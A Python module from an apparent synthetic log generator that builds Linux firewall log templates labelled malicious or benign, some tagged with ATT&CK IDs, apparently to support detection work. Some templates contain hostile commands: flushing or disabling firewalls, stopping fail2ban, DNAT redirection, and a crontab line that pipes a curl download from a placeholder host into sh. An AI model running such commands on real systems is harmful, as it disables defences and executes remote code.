"""Packet filters of Linux: UFW, iptables and nftables prefixes, firewalld, and how they are set."""

from generator.families.network.product_story import catalogue_in_parts

_kernel = ("kernel|[{n}.{id}] {msg}", "kernel|{msg}", "=<4>{ctime} {host} kernel: {msg}", '={"__REALTIME_TIMESTAMP":"{micro}","_HOSTNAME":"{host}","SYSLOG_IDENTIFIER":"kernel","_TRANSPORT":"kernel","PRIORITY":"4","MESSAGE":"{msg}"}')

catalogue_in_parts("gateways/linux-filter", _kernel, r"""
PO# [UFW BLOCK] IN=<<eth0|ens3>> OUT= MAC={mac}:{mac2}:08:00 SRC={wan} DST={wan2} LEN=44 TOS=0x00 PREC=0x00 TTL={n} ID={id} PROTO=TCP SPT={port} DPT=<<21|22|23|25|80|110|135|139|143|443|445|993|1433|1521|3306|3389|5432|5900|6379|8080|9200|27017>> WINDOW=1024 RES=0x00 SYN URGP=0
PO# [UFW AUDIT] IN= OUT=eth0 SRC={lan} DST=10.0.{n}.{n2} LEN=60 TOS=0x00 PREC=0x00 TTL=64 PROTO=TCP SPT={port} DPT=<<22|445|3389|5985>> WINDOW=64240 RES=0x00 SYN URGP=0
C2@T1571 <<nft-out|iptables OUT|egress>>: IN= OUT=ens3 SRC={lan} DST={wan} LEN=60 TTL=64 PROTO=TCP SPT={port} DPT=<<4444|1337|6667|31337>> SYN UID=33 GID=33
CM@T1496.001 <<FINAL_REJECT|nft-out>>: IN= OUT=eth0 SRC={lan} DST={wan} LEN=60 TTL=64 PROTO=TCP SPT={port} DPT=<<3333|14433|45700>> SYN UID=33 GID=33
DO# [UFW LIMIT BLOCK] IN=eth0 OUT= MAC={mac}:{mac2}:08:00 SRC=203.0.{n}.{n2} DST={wan2} LEN=40 PROTO=TCP SPT={port} DPT=443 WINDOW=512 SYN
+ nf_conntrack: nf_conntrack: table full, dropping packet
+ TCP: request_sock_TCP: Possible SYN flooding on port {wan2}:443. Sending cookies.
""", r"""
BN [UFW BLOCK] IN=<<eth0|ens3|enp1s0>> OUT= MAC={mac}:{mac2}:08:00 SRC={noise} DST={wan2} LEN=40 TOS=0x00 PREC=0x00 TTL={n} ID={id} PROTO=TCP SPT={port} DPT=<<23|445|8080|3389|2323|5555>> WINDOW=1024 RES=0x00 SYN URGP=0
BN [UFW BLOCK] IN=eth0 OUT= MAC={mac}:{mac2}:08:00 SRC={noise} DST={wan2} LEN=40 TTL={n} PROTO=TCP SPT=443 DPT={port} WINDOW=0 RES=0x00 <<RST|ACK FIN|ACK>> URGP=0
BN [UFW BLOCK] IN=eth0 OUT= MAC=01:00:5e:00:00:01:{mac}:08:00 SRC={lan} DST=224.0.0.<<1|251>> LEN=32 TTL=1 PROTO=<<2|UDP SPT=5353 DPT=5353>>
BN [UFW LIMIT BLOCK] IN=eth0 OUT= SRC={any} DST={lan} LEN=60 PROTO=TCP SPT={port} DPT=22 SYN
BN [UFW BLOCK] IN= OUT=docker0 SRC=172.17.0.1 DST=172.17.0.{few} LEN=60 TTL=64 PROTO=TCP SPT={port} DPT={port} SYN
NT [UFW AUDIT] IN= OUT=<<lo|eth0>> SRC={lan} DST={lan2} LEN=60 TTL=64 PROTO=<<TCP|UDP>> SPT={port} DPT=<<53|443|123>>
NT [UFW ALLOW] IN=eth0 OUT= MAC={mac}:{mac2}:08:00 SRC={any} DST={lan} LEN=60 PROTO=TCP SPT={port} DPT=<<22|443>> SYN
BN FINAL_REJECT: IN=ens3 OUT= MAC={mac}:{mac2}:08:00 SRC={noise} DST={wan2} LEN=44 PROTO=TCP SPT={port} DPT=<<22|23|81|9200>> WINDOW=1024 SYN
BN <<nft-drop|iptables denied|input drop|[nftables] Denied>>: IN=enp3s0 OUT= MAC={mac}:{mac2}:08:00 SRC={any} DST={lan} LEN={n} PROTO=UDP SPT={port} DPT=<<137|1900|161|123|53>> LEN={n}
BN IPTables-Dropped: IN=br0 OUT=ppp0 SRC={lan} DST={noise} LEN=52 TTL=63 PROTO=TCP SPT={port} DPT=<<25|445|6881>> SYN
NS <<egress|nft-out>>: IN= OUT=ens3 SRC={lan} DST={wan} LEN=60 TTL=64 PROTO=TCP SPT={port} DPT=<<443|80|123|53>> SYN UID=<<33|0|100|999>> GID=33
SY nf_conntrack: default automatic helper assignment has been turned off for security reasons and CT-based firewall rule not found. Use the iptables CT target to attach helpers instead.
SY <<device eth0 entered promiscuous mode|br-{hex}: port 1(veth{hex}) entered disabled state|eth0: renamed from veth{hex}|wg0: Keypair {n} created for peer {few}>>
SY TCP: <<request_sock_TCP: Possible SYN flooding on port 0.0.0.0:8080. Sending cookies.|out of memory -- consider tuning tcp_mem|eth0: Driver has suspect GRO implementation, TCP performance may be compromised.>>
""")

catalogue_in_parts("gateways/linux-filter-set", "|{msg}", r"""
FW sudo>> www-data : PWD=/var/www/html ; USER=root ; COMMAND=/usr/sbin/<<ufw disable|iptables -F|iptables -P INPUT ACCEPT|nft flush ruleset|systemctl stop firewalld>>
FW ufw>> disable by uid 33 (www-data) from {wan}: Firewall stopped and disabled on system startup
FW firewalld>> WARNING: panic mode off; zone public target ACCEPT, port 1-65535/tcp added by uid 33 ({word})
FW audit>> NETFILTER_CFG table=filter family=2 entries=0 op=nft_unregister_table pid={n} comm="{word}" exe="/tmp/.{word}"
DE@T1562.001 systemd>> fail2ban.service: Deactivated successfully; stopped by /dev/shm/{word} (uid 0), rsyslog.service masked
C2@T1090 sudo>> {user} : PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/iptables -t nat -A PREROUTING -p tcp --dport 443 -j DNAT --to-destination {wan}:443
C2@T1205 sudo>> www-data : PWD=/dev/shm ; USER=root ; COMMAND=/sbin/iptables -I INPUT -p icmp -m string --string {word} --algo bm -j ACCEPT
FW crontab>> (root) CMD (iptables -D INPUT -s {wan} -j DROP; iptables -I INPUT -s {wan} -j ACCEPT; curl -s http://{wan}/{word}|sh)
""", r"""
AD sudo>> {adm} : TTY=pts/0 ; PWD=/home/{adm} ; USER=root ; COMMAND=/usr/sbin/<<ufw allow 443/tcp|ufw status verbose|ufw reload|ufw delete 3|iptables -L -n -v|nft list ruleset|iptables-save|ufw deny from {wan}>>
AD ufw>> <<allow 22/tcp by {adm}: Rule added|reload: Firewall reloaded|enable: Firewall is active and enabled on system startup>>
AD firewalld>> <<WARNING: ALREADY_ENABLED: 443:tcp|WARNING: AllowZoneDrifting is enabled. This is considered an insecure configuration option.|ERROR: INVALID_SERVICE: {word}>>
SY audit>> NETFILTER_CFG table=nat family=2 entries={n} op=<<xt_replace|nft_register_rule|nft_register_chain>> pid={n} comm="<<iptables|dockerd|nft|firewalld|iptables-restor>>" exe="/usr/sbin/xtables-nft-multi"
SY systemd>> <<Starting|Started|Stopping|Reloaded>> <<firewalld.service - firewalld - dynamic firewall daemon|ufw.service - Uncomplicated firewall|nftables.service|fail2ban.service - Fail2Ban Service>>.
BN fail2ban.actions>> NOTICE [<<sshd|postfix-sasl|nginx-http-auth>>] <<Ban|Unban|Restore Ban>> {noise}
AD sudo>> {adm} : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/iptables -t nat -A PREROUTING -p tcp --dport 8080 -j DNAT --to-destination {lan}:80
SY dockerd>> level=info msg="<<Firewalld: docker zone already exists, returning|Loading containers: start.|Default bridge (docker0) is assigned with an IP address 172.17.0.0/16>>"
SJ CRON>> (root) CMD (/usr/local/sbin/update-blocklist.sh && /usr/sbin/ipset restore < /etc/ipset.d/blocklist)
SY crowdsec-firewall-bouncer>> level=info msg="<<{n} decisions added|{n} decisions deleted|iptables clean up>>"
""")
